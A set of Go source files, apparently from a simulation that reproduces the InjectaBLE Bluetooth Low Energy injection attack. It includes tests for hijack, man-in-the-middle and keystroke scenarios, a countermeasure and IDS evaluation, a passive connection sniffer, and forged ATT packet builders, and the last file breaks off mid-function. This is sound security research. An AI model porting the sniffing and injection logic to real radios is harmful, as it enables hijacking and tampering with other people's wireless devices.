func TestWallCostsMoreAttemptsThanOpenAir(t *testing.T) {
	// Cross-experiment shape: at the same distance the wall adds attempts.
	open, err := Experiment3Distance(Options{TrialsPerPoint: testTrials})
	if err != nil {
		t.Fatal(err)
	}
	wall, err := Experiment3Wall(Options{TrialsPerPoint: testTrials})
	if err != nil {
		t.Fatal(err)
	}
	// open point "E:8m" vs wall point "8m+wall".
	openMean := open.Points[4].Series.Stats.Mean()
	wallMean := wall.Points[3].Series.Stats.Mean()
	if wallMean < openMean {
		t.Errorf("wall (%.2f) not costlier than open air (%.2f) at 8 m", wallMean, openMean)
	}
}

func TestScenarioAAcrossDevices(t *testing.T) {
	for _, target := range ScenarioTargets() {
		out, err := RunScenarioA(target, 77, false)
		if err != nil {
			t.Fatalf("%s: %v", target, err)
		}
		if !out.Success {
			t.Errorf("scenario A failed on %s", target)
		}
	}
}

func TestScenarioBOnBulb(t *testing.T) {
	out, err := RunScenarioB("lightbulb", 78, false)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Success {
		t.Error("scenario B failed")
	}
}

func TestScenarioCOnBulb(t *testing.T) {
	out, err := RunScenarioC("lightbulb", 79, false)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Success {
		t.Error("scenario C failed")
	}
}

func TestScenarioDOnWatch(t *testing.T) {
	out, err := RunScenarioD("smartwatch", 80, false)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Success {
		t.Error("scenario D failed")
	}
}

func TestEncryptedInjectionCountermeasure(t *testing.T) {
	out, err := RunEncryptedInjection(81)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Paired {
		t.Fatal("pairing failed")
	}
	if out.FeatureTriggered {
		t.Error("integrity broken: plaintext injection executed on encrypted link")
	}
	if !out.ConnectionDropped {
		t.Error("availability impact missing: MIC failure should drop the link")
	}
}

func TestBTLEJackBaselineComparison(t *testing.T) {
	jam, err := RunBTLEJackBaseline(82)
	if err != nil {
		t.Fatal(err)
	}
	inj, err := RunInjectaBLEMasterHijackComparison(82)
	if err != nil {
		t.Fatal(err)
	}
	if !inj.Success {
		t.Error("InjectaBLE master hijack failed")
	}
	if jam.Success {
		// When the jam hijack works, it must be measurably louder.
		if jam.JamBursts == 0 || inj.JamBursts != 0 {
			t.Errorf("stealth comparison broken: jam bursts %d vs %d", jam.JamBursts, inj.JamBursts)
		}
		if jam.IDSJammingAlerts == 0 {
			t.Error("jamming baseline invisible to the IDS")
		}
	}
	if inj.IDSJammingAlerts != 0 {
		t.Error("InjectaBLE raised jamming alerts")
	}
	t.Log("\n" + BaselineTable([]BaselineOutcome{jam, inj}).Render())
}

func TestGATTackerBaselineOnlyPreConnection(t *testing.T) {
	pre, err := RunGATTackerBaseline(83, false)
	if err != nil {
		t.Fatal(err)
	}
	if !pre.Success {
		t.Error("GATTacker spoof failed pre-connection — it should work there")
	}
	post, err := RunGATTackerBaseline(83, true)
	if err != nil {
		t.Fatal(err)
	}
	if post.Success {
		t.Error("GATTacker spoof hooked an established connection — the paper's point is it cannot")
	}
}

func TestAblationCaptureModel(t *testing.T) {
	exp, err := AblationCaptureModel(Options{TrialsPerPoint: 5})
	if err != nil {
		t.Fatal(err)
	}
	var phase, pess Point
	for _, p := range exp.Points {
		switch p.Label {
		case "phase-capture":
			phase = p
		case "pessimistic":
			pess = p
		}
	}
	if phase.Series.Failures > 0 {
		t.Error("phase-capture model failed injections in the triangle")
	}
	// Under the pessimistic model injection is (nearly) impossible at
	// interval 36 with a 22-byte frame — Santos et al.'s assumption.
	if pess.Series.Failures < 4 {
		t.Errorf("pessimistic model succeeded %d/5 — should almost always fail", 5-pess.Series.Failures)
	}
	t.Log("\n" + exp.Table().Render())
}

func TestAblationTiming(t *testing.T) {
	exp, err := AblationInjectionTiming(Options{TrialsPerPoint: 5})
	if err != nil {
		t.Fatal(err)
	}
	start, center := exp.Points[0], exp.Points[1]
	if start.Series.Failures > 0 {
		t.Error("window-start timing failed")
	}
	// Firing at the anchor loses the race far more often.
	if center.Series.Failures == 0 && center.Series.Stats.Mean() <= start.Series.Stats.Mean() {
		t.Error("anchor-center timing should be clearly worse")
	}
	t.Log("\n" + exp.Table().Render())
}

func TestHeuristicValidation(t *testing.T) {
	table, err := HeuristicValidation(Options{TrialsPerPoint: 5})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(table.Render(), "100.0%") {
		// Perfect agreement is expected in simulation; log if not.
		t.Logf("heuristic below 100%%:\n%s", table.Render())
	}
}

func TestFigureTables(t *testing.T) {
	if got := TableIFrameFormat().Render(); !strings.Contains(got, "176µs") {
		t.Errorf("Table I missing air-time note:\n%s", got)
	}
	tII := TableIIConnectReq().Render()
	if !strings.Contains(tII, "34 bytes") {
		t.Errorf("Table II total wrong:\n%s", tII)
	}
	fig4 := Fig4WindowWidening().Render()
	if !strings.Contains(fig4, "32µs") && !strings.Contains(fig4, "32.") {
		t.Errorf("fig4 missing the widening floor:\n%s", fig4)
	}

	fig1, err := Fig1ConnectionEvents(90)
	if err != nil {
		t.Fatal(err)
	}
	if len(fig1.Rows) != 4 {
		t.Errorf("fig1 rows = %d", len(fig1.Rows))
	}

	fig2, err := Fig2ConnectionUpdate(91)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(fig2.Render(), "new interval") {
		t.Errorf("fig2 missing new interval:\n%s", fig2.Render())
	}

	fig5, err := Fig5InjectionOutcomes(92)
	if err != nil {
		t.Fatal(err)
	}
	r := fig5.Render()
	if !strings.Contains(r, "a) no collision") || !strings.Contains(r, "c) master first") {
		t.Errorf("fig5 incomplete:\n%s", r)
	}
	t.Log("\n" + r)
}

func TestFig3Fig6Fig7(t *testing.T) {
	fig3, err := Fig3AttackOverview(93)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(fig3.Render(), "T_IFS") {
		t.Errorf("fig3:\n%s", fig3.Render())
	}
	fig6, err := Fig6SlaveHijack(94)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(fig6.Render(), "true") {
		t.Errorf("fig6:\n%s", fig6.Render())
	}
	fig7, err := Fig7MitM(95)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(fig7.Render(), "true") {
		t.Errorf("fig7:\n%s", fig7.Render())
	}
}

func TestFig8Topology(t *testing.T) {
	r := Fig8Topology().Render()
	if !strings.Contains(r, "equilateral") {
		t.Errorf("fig8:\n%s", r)
	}
}

func TestStatsMath(t *testing.T) {
	var s Stats
	for _, v := range []int{1, 2, 3, 4, 100} {
		s.Add(v)
	}
	if s.N() != 5 || s.Min() != 1 || s.Max() != 100 {
		t.Fatal("basic stats wrong")
	}
	if s.Median() != 3 {
		t.Fatalf("median = %f", s.Median())
	}
	if s.Mean() != 22 {
		t.Fatalf("mean = %f", s.Mean())
	}
	if s.Variance() < 1900 || s.Variance() > 1910 {
		t.Fatalf("variance = %f", s.Variance())
	}
	if s.Boxplot(24) == "" {
		t.Fatal("empty boxplot")
	}
	var empty Stats
	if empty.Boxplot(24) != "" {
		t.Fatal("boxplot of empty stats")
	}
}

func TestTableRender(t *testing.T) {
	tb := &Table{
		Title:  "test",
		Header: []string{"a", "bb"},
		Rows:   [][]string{{"1", "2"}, {"333", "4"}},
		Notes:  []string{"hello"},
	}
	out := tb.Render()
	for _, want := range []string{"== test ==", "333", "note: hello"} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
}

func TestPayloadPDULens(t *testing.T) {
	// The experiment sweep must match the paper's PDU sizes exactly.
	want := map[Payload]int{PayloadTerminate: 4, PayloadToggle: 9, PayloadPowerOff: 14, PayloadColor: 16}
	for p, n := range want {
		if p.PDULen() != n {
			t.Errorf("%v PDULen = %d, want %d", p, p.PDULen(), n)
		}
		frame := p.frame(6)
		if got := len(frame.Marshal()); got != n {
			t.Errorf("%v marshals to %d bytes, want %d", p, got, n)
		}
	}
}

func TestScenarioKeystrokes(t *testing.T) {
	out, err := RunScenarioKeystrokes(85, false)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Success {
		t.Error("keystroke injection failed")
	}
}

func TestIDSValidationRates(t *testing.T) {
	table, err := IDSValidation(Options{TrialsPerPoint: 6, SeedBase: 3000})
	if err != nil {
		t.Fatal(err)
	}
	r := table.Render()
	if !strings.Contains(r, "TPR") {
		t.Fatalf("table:\n%s", r)
	}
	// Expect full detection and no false positives at these settings.
	if !strings.Contains(r, "100%") {
		t.Errorf("TPR below 100%%:\n%s", r)
	}
	if !strings.Contains(r, "0%") {
		t.Errorf("FPR above 0%%:\n%s", r)
	}
}

func TestAblationAdaptiveGuard(t *testing.T) {
	exp, err := AblationAdaptiveGuard(Options{TrialsPerPoint: 5})
	if err != nil {
		t.Fatal(err)
	}
	adaptive, frozen := exp.Points[0], exp.Points[1]
	if adaptive.Series.Failures > 0 {
		t.Error("adaptive guard failed injections")
	}
	// The frozen variant with a deliberately early fire must be clearly
	// worse (failures or far more attempts).
	if frozen.Series.Failures == 0 && frozen.Series.Stats.Mean() <= adaptive.Series.Stats.Mean()+1 {
		t.Errorf("guard adaptation shows no benefit: %.1f vs %.1f",
			frozen.Series.Stats.Mean(), adaptive.Series.Stats.Mean())
	}
	t.Log("\n" + exp.Table().Render())
}

// TestScenarioSoak runs every scenario across several seeds — the
// regression net for attack-chain stability. Skipped with -short.
func TestScenarioSoak(t *testing.T) {
	if testing.Short() {
		t.Skip("soak test skipped in -short mode")
	}
	runs := []struct {
		name string
		run  func(string, uint64, bool) (ScenarioOutcome, error)
	}{
		{"A", RunScenarioA}, {"B", RunScenarioB}, {"C", RunScenarioC}, {"D", RunScenarioD},
	}
	for _, sc := range runs {
		for seed := uint64(7000); seed < 7005; seed++ {
			out, err := sc.run("lightbulb", seed, false)
			if err != nil {
				t.Fatalf("scenario %s seed %d: %v", sc.name, seed, err)
			}
			if !out.Success {
				t.Errorf("scenario %s seed %d failed", sc.name, seed)
			}
		}
	}
	for seed := uint64(7100); seed < 7105; seed++ {
		out, err := RunScenarioKeystrokes(seed, false)
		if err != nil {
			t.Fatalf("keystrokes seed %d: %v", seed, err)
		}
		if !out.Success {
			t.Errorf("keystrokes seed %d failed", seed)
		}
	}
}

func TestWideningReductionCountermeasure(t *testing.T) {
	outs, err := WideningReduction(Options{TrialsPerPoint: 6, SeedBase: 8000})
	if err != nil {
		t.Fatal(err)
	}
	if len(outs) != 4 {
		t.Fatalf("%d scales", len(outs))
	}
	base, tight := outs[0], outs[len(outs)-1]
	// At spec widening the attack succeeds; at 0.1× it must be much harder.
	if base.InjectionFailures > 0 {
		t.Errorf("baseline widening blocked %d injections", base.InjectionFailures)
	}
	if tight.InjectionFailures == 0 && tight.AttackStats.Mean() <= base.AttackStats.Mean()+1 {
		t.Errorf("shrunk window shows no defensive effect: %+v", tight)
	}
	// And the paper's warned cost: reliability degrades as windows shrink.
	if tight.CleanMissRate < base.CleanMissRate {
		t.Errorf("no reliability cost measured: %.3f vs %.3f", tight.CleanMissRate, base.CleanMissRate)
	}
	t.Log("\n" + WideningReductionTable(outs, 6).Render())
}

func TestAppLayerCryptoAntiPattern(t *testing.T) {
	out, err := RunAppLayerCrypto(8100)
	if err != nil {
		t.Fatal(err)
	}
	if out.WriteInjectionExecuted {
		t.Error("app-layer MAC failed to stop the forged write")
	}
	if !out.SlaveHijacked {
		t.Error("LL_TERMINATE_IND should bypass GATT-layer crypto")
	}
	if !out.MasterStillServed {
		t.Error("attacker failed to serve the master post-hijack")
	}
	t.Log("\n" + AppLayerCryptoTable(out).Render())
}
