package experiments

import (
	"fmt"

	"injectable/internal/campaign"
)

// SweepPoint is one configuration of a Fig. 9-style sweep, bound to the
// absolute seed base its trials draw from. Trial i runs with seed
// SeedBase+i — the historical linear layout of the serial loops — so the
// campaign engine reproduces the exact same worlds (and therefore tables)
// at any worker count. It is exported (with BuildSweep) so that external
// point builders — the declarative scenario compiler in
// internal/scenario — expand into the exact campaign shape the in-repo
// catalog uses, warmup fork path included.
type SweepPoint struct {
	Label string
	// SeedBase is the absolute base seed; trial i uses SeedBase + i.
	SeedBase uint64
	// Trials overrides Options.TrialsPerPoint when non-zero.
	Trials int
	Cfg    TrialConfig
}

// runner builds the campaign runner for these options: opts.Parallel
// workers (0 = all cores, 1 = the serial degenerate case), fail-fast like
// the former serial loops, plus the optional JSONL, metrics and verbose
// streams.
func (o Options) runner(sinks ...campaign.Sink) *campaign.Runner {
	if o.JSONL != nil {
		sinks = append(sinks, campaign.NewJSONL(o.JSONL))
	}
	if o.NDJSON != nil {
		sinks = append(sinks, campaign.NewNDJSON(o.NDJSON))
	}
	if o.Metrics != nil {
		sinks = append(sinks, campaign.NewObsJSONL(o.Metrics))
	}
	if o.Verbose != nil {
		w := o.Verbose
		sinks = append(sinks, campaign.SinkFuncs{OnFinish: func(m campaign.Metrics) {
			fmt.Fprintf(w, "campaign: workers=%d trials=%d ok=%d failed=%d retried=%d wall=%v utilization=%.0f%%\n",
				m.Workers, m.Trials, m.Succeeded, m.Failed, m.Retried, m.Wall.Round(1e6), 100*m.Utilization())
		}})
	}
	return &campaign.Runner{
		Workers:    o.Parallel,
		FailFast:   true,
		Sinks:      sinks,
		CollectObs: o.Metrics != nil,
	}
}

// Warmup modes accepted by Options.Warmup (see its doc comment).
const (
	// WarmupShared forks every trial from a per-(worker, point) snapshot.
	WarmupShared = "shared"
	// WarmupSharedFresh is the fork path's differential reference: fresh
	// worlds, shared warm seed, per-trial rekey.
	WarmupSharedFresh = "shared-fresh"
)

// ValidWarmup reports whether s names a warmup mode ("" included).
func ValidWarmup(s string) bool {
	return s == "" || s == WarmupShared || s == WarmupSharedFresh
}

// BuildSweep expands the points into a campaign spec whose trial functions
// run RunTrial and return TrialResult values. The serving layer builds
// specs through here too (via SweepSpec), and the scenario DSL compiler
// feeds its own points through here, so a daemon job — catalog or
// DSL-defined — executes the exact campaign a CLI sweep would, including
// the "shared"/"shared-fresh" snapshot-fork warmup strategies.
func BuildSweep(opts Options, name string, pts []SweepPoint) *campaign.Spec {
	spec := &campaign.Spec{Name: name, SeedBase: opts.SeedBase}
	for _, sp := range pts {
		cfg := sp.Cfg
		base := sp.SeedBase
		trials := sp.Trials
		if trials == 0 {
			trials = opts.TrialsPerPoint
		}
		point := campaign.Point{
			Label:  sp.Label,
			Trials: trials,
			Seed:   func(i int) uint64 { return base + uint64(i) },
		}
		switch opts.Warmup {
		case WarmupShared:
			point.WarmSeed = WarmTrialSeed(base)
			point.Warmup = func(u campaign.Warmup) (any, error) {
				c := cfg
				c.Arena = u.Arena
				c.Ctx = u.Ctx
				wt, err := NewWarmTrial(c, u.Seed)
				if err != nil {
					return nil, err
				}
				return wt, nil
			}
			point.Run = func(t campaign.Trial) (any, error) {
				if t.WarmErr != nil {
					// Unwrapped, and paired with a zero TrialResult — exactly
					// what a shared-fresh trial yields when its own warm phase
					// fails, so the two modes' NDJSON streams stay identical.
					return TrialResult{}, t.WarmErr
				}
				return t.Warm.(*WarmTrial).RunFork(t.Seed, t.Obs, t.Ctx)
			}
		case WarmupSharedFresh:
			point.Run = func(t campaign.Trial) (any, error) {
				c := cfg
				c.Obs = t.Obs
				c.Arena = t.Arena
				c.Ctx = t.Ctx
				return RunTrialWarmFresh(c, WarmTrialSeed(base), t.Seed)
			}
		default:
			point.Run = func(t campaign.Trial) (any, error) {
				c := cfg
				c.Seed = t.Seed
				c.Obs = t.Obs     // nil unless the runner collects observability
				c.Arena = t.Arena // worker-local allocation reuse
				c.Ctx = t.Ctx     // campaign cancellation/deadline
				return RunTrial(c)
			}
		}
		spec.Points = append(spec.Points, point)
	}
	return spec
}

// RunSweepPoints executes pre-built points as one campaign and collates
// each point's trials, exactly like the catalog entry points do. It is
// the in-process execution path for external point builders — the
// scenario DSL's Execute runs its compiled points through here.
func RunSweepPoints(opts Options, name string, pts []SweepPoint) ([]Point, error) {
	return runSweep(opts, name, pts)
}

// runSweep executes the points as one campaign and collates each point's
// trials into a SeriesResult. Results stream back in deterministic trial
// order regardless of opts.Parallel, so the accumulated series — and any
// table rendered from it — is bit-for-bit identical to a serial run.
func runSweep(opts Options, name string, pts []SweepPoint) ([]Point, error) {
	spec := BuildSweep(opts, name, pts)
	index := make(map[string]int, len(pts))
	for i, sp := range pts {
		index[sp.Label] = i
	}

	series := make([]SeriesResult, len(pts))
	collect := campaign.OnResult(func(r campaign.Result) {
		if r.Err != nil {
			return // fail-fast surfaces it as the campaign error
		}
		s := &series[index[r.Point]]
		res := r.Value.(TrialResult)
		if res.Success {
			s.Stats.Add(res.Attempts)
		} else {
			s.Failures++
		}
		if res.HeuristicAgrees {
			s.Heuristic.Agree++
		} else {
			s.Heuristic.Disagree++
		}
		opts.progress(r.Point, r.Index)
	})
	if _, err := opts.runner(collect).Run(spec); err != nil {
		return nil, err
	}
	points := make([]Point, len(pts))
	for i, sp := range pts {
		points[i] = Point{Label: sp.Label, Series: series[i]}
	}
	return points, nil
}
