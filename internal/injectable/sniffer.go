package injectable

import (
	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/pdu"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// SniffedPacket is one data-channel packet observed inside a connection.
type SniffedPacket struct {
	// Role is the inferred transmitter: the first packet of an event is
	// the master's, the T_IFS follow-up the slave's.
	Role    link.Role
	PDU     pdu.DataPDU
	CRCOK   bool
	Channel uint8
	Event   uint16
	StartAt sim.Time
	EndAt   sim.Time
	RSSI    phy.DBm
}

// Sniffer follows BLE connections passively, as the paper's dongle does
// before arming an injection: it captures CONNECT_REQ on the advertising
// channels, then follows the channel hopping, tracking anchors, SN/NESN
// and parameter-update procedures.
type Sniffer struct {
	stack *link.Stack

	state  *ConnState
	phase  snifferPhase
	paused bool
	epoch  uint64

	// eventHasMaster marks that the current event's first frame has been
	// observed (so the next frame is the slave's response).
	eventHasMaster bool

	// OnConnectReq fires when a connection initiation is captured.
	OnConnectReq func(req pdu.ConnectReq)
	// OnSync fires once the sniffer is following a connection.
	OnSync func(st *ConnState)
	// OnPacket observes every sniffed data packet.
	OnPacket func(p SniffedPacket)
	// OnEventClosed fires after each followed connection event.
	OnEventClosed func(st *ConnState)
	// OnLost fires when the connection is lost (terminated or vanished).
	OnLost func()
}

type snifferPhase int

const (
	phaseIdle snifferPhase = iota
	phaseAdvertising
	phaseFollowing
)

// NewSniffer builds a sniffer on the attacker's stack.
func NewSniffer(stack *link.Stack) *Sniffer {
	return &Sniffer{stack: stack}
}

// State returns the live connection state (nil before synchronisation).
func (s *Sniffer) State() *ConnState { return s.state }

// Following reports whether the sniffer is locked onto a connection.
func (s *Sniffer) Following() bool { return s.phase == phaseFollowing }

// Start begins listening for CONNECT_REQ on the advertising channels,
// hopping periodically like the paper's sniffer.
func (s *Sniffer) Start() {
	s.phase = phaseAdvertising
	s.stack.Radio.SetPromiscuous(true)
	s.stack.Radio.SetAccessAddress(uint32(ble.AdvertisingAccessAddress))
	s.stack.Radio.OnFrame = s.onAdvFrame
	s.hopAdvChannel(0)
}

// Stop halts all sniffing.
func (s *Sniffer) Stop() {
	s.phase = phaseIdle
	s.epoch++
	s.stack.Radio.OnFrame = nil
	s.stack.Radio.StopListening()
}

// hopAdvChannel dwells across 37/38/39 waiting for a CONNECT_REQ.
func (s *Sniffer) hopAdvChannel(i int) {
	if s.phase != phaseAdvertising {
		return
	}
	s.stack.Radio.SetChannel(phy.AdvChannels()[i%3])
	s.stack.Radio.StartListening()
	s.epoch++
	epoch := s.epoch
	var dwell func(d sim.Duration)
	dwell = func(d sim.Duration) {
		s.stack.Sched.After(d, s.stack.Name+":sniff-hop", func() {
			if s.phase != phaseAdvertising || s.epoch != epoch {
				return
			}
			if s.stack.Radio.Locked() || s.stack.Radio.Acquiring() {
				// A frame is mid-air at the dwell boundary: let it finish,
				// then check again. In a busy cell (many advertisers) this
				// must re-arm — abandoning the timer would park the sniffer
				// on this channel for good.
				dwell(sim.Millisecond)
				return
			}
			s.stack.Radio.StopListening()
			s.hopAdvChannel(i + 1)
		})
	}
	dwell(50 * sim.Millisecond)
}

// onAdvFrame inspects advertising traffic for CONNECT_REQ.
func (s *Sniffer) onAdvFrame(rx medium.Received) {
	if s.phase != phaseAdvertising {
		return
	}
	resume := func() { s.stack.Radio.StartListening() }
	if !crc.Check(ble.AdvertisingCRCInit, rx.Frame.PDU, rx.Frame.CRC) {
		resume()
		return
	}
	p, err := pdu.UnmarshalAdvPDU(rx.Frame.PDU)
	if err != nil || p.Type != pdu.ConnectReqType {
		resume()
		return
	}
	req, err := pdu.UnmarshalConnectReq(p.Payload)
	if err != nil {
		resume()
		return
	}
	req.ChSel = p.ChSel // header bit: selects CSA#2
	if s.OnConnectReq != nil {
		s.OnConnectReq(req)
	}
	st, err := newConnState(link.FromConnectReq(req), req.InitAddr, req.AdvAddr)
	if err != nil {
		resume()
		return
	}
	s.followFromConnectReq(st, rx.EndAt)
}

// followFromConnectReq synchronises on a brand-new connection: the first
// anchor will fall inside the transmit window of eq. 1.
func (s *Sniffer) followFromConnectReq(st *ConnState, connReqEnd sim.Time) {
	s.state = st
	s.phase = phaseFollowing
	s.stack.Radio.StopListening()
	st.LastAnchor = connReqEnd // reference until the first anchor
	w := link.NewTransmitWindow(connReqEnd, st.Params.WinOffset, st.Params.WinSize)
	widening := s.widening(w.Start.Sub(connReqEnd))
	openAt := w.Start.Add(-widening)
	closeAt := w.End().Add(widening)
	s.scheduleWindow(openAt, closeAt)
	if s.OnSync != nil {
		s.OnSync(st)
	}
}

// FollowKnownConnection synchronises directly from already-known
// parameters and timing — the path used after parameter recovery on an
// established connection, or by tests. The state's anchor must be recent
// (clock drift accumulates ~tens of µs per second of staleness); elapsed
// whole events are fast-forwarded.
func (s *Sniffer) FollowKnownConnection(st *ConnState) {
	now := s.stack.Sched.Now()
	if st.AnchorKnown {
		// Fast-forward the event counter over events that already passed.
		interval := st.IntervalDuration()
		for st.LastAnchor.Add(sim.Duration(st.MissedEvents+1)*interval) < now {
			st.MissedEvents++
			st.EventCount++
		}
	}
	s.state = st
	s.phase = phaseFollowing
	s.stack.Radio.SetPromiscuous(true)
	s.stack.Radio.OnFrame = nil
	s.stack.Radio.StopListening()
	s.scheduleNextEventWindow()
	if s.OnSync != nil {
		s.OnSync(st)
	}
}

// widening returns the sniffer's listening margin. The sniffer over-widens
// relative to eq. 4 (it would rather waste listening time than lose the
// anchor).
func (s *Sniffer) widening(span sim.Duration) sim.Duration {
	return link.WindowWidening(s.state.Params.MasterSCA.WorstPPM(), 100, span) + 20*sim.Microsecond
}

// Pause releases the radio (the injector takes over for one event).
func (s *Sniffer) Pause() {
	s.paused = true
	s.epoch++
	s.stack.Radio.OnFrame = nil
	s.stack.Radio.StopListening()
}

// Resume re-arms the follower after an injection event. The injector has
// already updated the state (anchor, counters).
func (s *Sniffer) Resume() {
	if s.phase != phaseFollowing {
		return
	}
	s.paused = false
	s.scheduleNextEventWindow()
}

// scheduleNextEventWindow opens the listening window for the upcoming
// event predicted by the state.
func (s *Sniffer) scheduleNextEventWindow() {
	if s.phase != phaseFollowing || s.paused {
		return
	}
	st := s.state
	oldInterval := st.IntervalDuration() // applyInstants may change it
	if upd := st.applyInstants(); upd != nil {
		// Connection update instant: window over the new transmit window,
		// anchored where the OLD schedule's anchor would have fallen.
		predictedOld := st.LastAnchor.Add(sim.Duration(st.MissedEvents+1) * oldInterval)
		w := link.NewTransmitWindow(predictedOld, upd.WinOffset, upd.WinSize)
		widening := s.widening(w.Start.Sub(st.LastAnchor))
		s.scheduleWindow(w.Start.Add(-widening), w.End().Add(widening))
		return
	}
	span := sim.Duration(st.MissedEvents+1) * st.IntervalDuration()
	widening := s.widening(span)
	predicted := st.LastAnchor.Add(span)
	s.scheduleWindow(predicted.Add(-widening), predicted.Add(widening))
}

// scheduleWindow arms radio listening over [openAt, closeAt] on the
// upcoming event's channel.
func (s *Sniffer) scheduleWindow(openAt, closeAt sim.Time) {
	s.epoch++
	epoch := s.epoch
	now := s.stack.Sched.Now()
	if openAt < now {
		openAt = now
	}
	s.stack.Sched.At(openAt, s.stack.Name+":sniff-win-open", func() {
		if s.phase != phaseFollowing || s.paused || s.epoch != epoch {
			return
		}
		st := s.state
		ch := st.ChannelFor(st.EventCount)
		s.eventHasMaster = false
		st.LastEventSawSlave = false
		s.stack.Radio.SetChannel(phy.Channel(ch))
		s.stack.Radio.SetAccessAddress(uint32(st.Params.AccessAddress))
		s.stack.Radio.OnFrame = s.onDataFrame
		s.stack.Radio.StartListening()
		closeIn := closeAt.Sub(s.stack.Sched.Now())
		if closeIn < 0 {
			closeIn = 0
		}
		s.stack.Sched.After(closeIn, s.stack.Name+":sniff-win-close", func() {
			s.windowClose(epoch)
		})
	})
}

// windowClose ends the event observation if nothing more is arriving.
func (s *Sniffer) windowClose(epoch uint64) {
	if s.phase != phaseFollowing || s.paused || s.epoch != epoch {
		return
	}
	if s.stack.Radio.Locked() || s.stack.Radio.Acquiring() {
		s.stack.Sched.After(60*sim.Microsecond, s.stack.Name+":sniff-win-close", func() {
			s.windowClose(epoch)
		})
		return
	}
	s.stack.Radio.StopListening()
	st := s.state
	if !s.eventHasMaster {
		st.MissedEvents++
		if st.MissedEvents > 16 && !st.AnchorKnown {
			s.lost()
			return
		}
		if sim.Duration(st.MissedEvents)*st.IntervalDuration() > st.Params.SupervisionTimeout() {
			s.lost()
			return
		}
	}
	st.EventCount++
	if s.OnEventClosed != nil {
		s.OnEventClosed(st)
	}
	s.scheduleNextEventWindow()
}

// lost declares the followed connection gone.
func (s *Sniffer) lost() {
	s.phase = phaseIdle
	s.stack.Radio.OnFrame = nil
	s.stack.Radio.StopListening()
	if s.OnLost != nil {
		s.OnLost()
	}
}

// onDataFrame handles one sniffed data-channel frame.
func (s *Sniffer) onDataFrame(rx medium.Received) {
	if s.phase != phaseFollowing || s.paused {
		return
	}
	st := s.state
	crcOK := crc.Check(st.Params.CRCInit, rx.Frame.PDU, rx.Frame.CRC)
	p, err := pdu.UnmarshalDataPDU(rx.Frame.PDU)

	role := link.RoleMaster
	if s.eventHasMaster {
		role = link.RoleSlave
	}
	if role == link.RoleMaster {
		// First frame of the event: the anchor point. Its deviation from
		// the one-interval prediction is the master's observable timing
		// jitter (plus our own clock noise) — the injector adapts its
		// aggressiveness to it.
		if st.AnchorKnown && st.MissedEvents == 0 {
			predicted := st.LastAnchor.Add(st.IntervalDuration())
			st.observeAnchorResidual(rx.StartAt.Sub(predicted))
		}
		s.eventHasMaster = true
		st.LastAnchor = rx.StartAt
		st.AnchorKnown = true
		st.MissedEvents = 0
		if crcOK && err == nil {
			st.observeMaster(p)
		}
		// Keep listening for the slave's response.
		s.stack.Radio.StartListening()
		s.epoch++
		epoch := s.epoch
		deadline := ble.TIFS + phy.LE1M.PreambleAATime() + 60*sim.Microsecond
		s.stack.Sched.After(deadline, s.stack.Name+":sniff-slave-wait", func() {
			s.windowClose(epoch)
		})
	} else {
		st.LastEventSawSlave = true
		if crcOK && err == nil {
			st.observeSlave(p)
			if p.IsControl() {
				if ctrl, cerr := pdu.UnmarshalControl(p.Payload); cerr == nil {
					if _, isTerm := ctrl.(pdu.TerminateInd); isTerm {
						s.deliverPacket(role, p, crcOK, rx)
						s.lost()
						return
					}
				}
			}
		}
		// Event complete after the slave frame (single exchange model).
		s.epoch++
		epoch := s.epoch
		s.stack.Sched.After(sim.Microsecond, s.stack.Name+":sniff-event-close", func() {
			s.windowClose(epoch)
		})
	}
	if err == nil {
		s.deliverPacket(role, p, crcOK, rx)
	}
	// A master TERMINATE_IND also ends the connection once acked; treat
	// observation conservatively: wait for the slave frame then continue —
	// the supervision logic notices the silence either way.
}

func (s *Sniffer) deliverPacket(role link.Role, p pdu.DataPDU, crcOK bool, rx medium.Received) {
	if s.OnPacket == nil {
		return
	}
	s.OnPacket(SniffedPacket{
		Role:    role,
		PDU:     p,
		CRCOK:   crcOK,
		Channel: uint8(rx.Channel),
		Event:   s.state.EventCount,
		StartAt: rx.StartAt,
		EndAt:   rx.EndAt,
		RSSI:    rx.RSSI,
	})
}
