package injectable

import (
	"injectable/internal/att"
	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
)

// Forged PDU builders: the malicious frames of the paper's scenarios.
// SN/NESN are filled in by the injector at fire time (eq. 6).

// l2capFrame wraps an upper-layer payload into a single-fragment L2CAP
// frame on the given channel.
func l2capFrame(cid uint16, payload []byte) []byte {
	out := make([]byte, 0, 4+len(payload))
	out = append(out, byte(len(payload)), byte(len(payload)>>8), byte(cid), byte(cid>>8))
	return append(out, payload...)
}

// ForgeATTWriteCommand builds the scenario-A frame: an ATT Write Command
// targeting a characteristic value handle.
func ForgeATTWriteCommand(handle uint16, value []byte) pdu.DataPDU {
	attPDU := append([]byte{byte(att.OpWriteCmd), byte(handle), byte(handle >> 8)}, value...)
	return pdu.DataPDU{
		Header:  pdu.DataHeader{LLID: pdu.LLIDStart},
		Payload: l2capFrame(4, attPDU),
	}
}

// ForgeATTWriteRequest builds an ATT Write Request (the slave answers with
// a Write Response, observable by the attacker).
func ForgeATTWriteRequest(handle uint16, value []byte) pdu.DataPDU {
	attPDU := append([]byte{byte(att.OpWriteReq), byte(handle), byte(handle >> 8)}, value...)
	return pdu.DataPDU{
		Header:  pdu.DataHeader{LLID: pdu.LLIDStart},
		Payload: l2capFrame(4, attPDU),
	}
}

// ForgeATTReadRequest builds an ATT Read Request — the paper's example of
// a confidentiality attack: the slave responds with the attribute value.
func ForgeATTReadRequest(handle uint16) pdu.DataPDU {
	return pdu.DataPDU{
		Header:  pdu.DataHeader{LLID: pdu.LLIDStart},
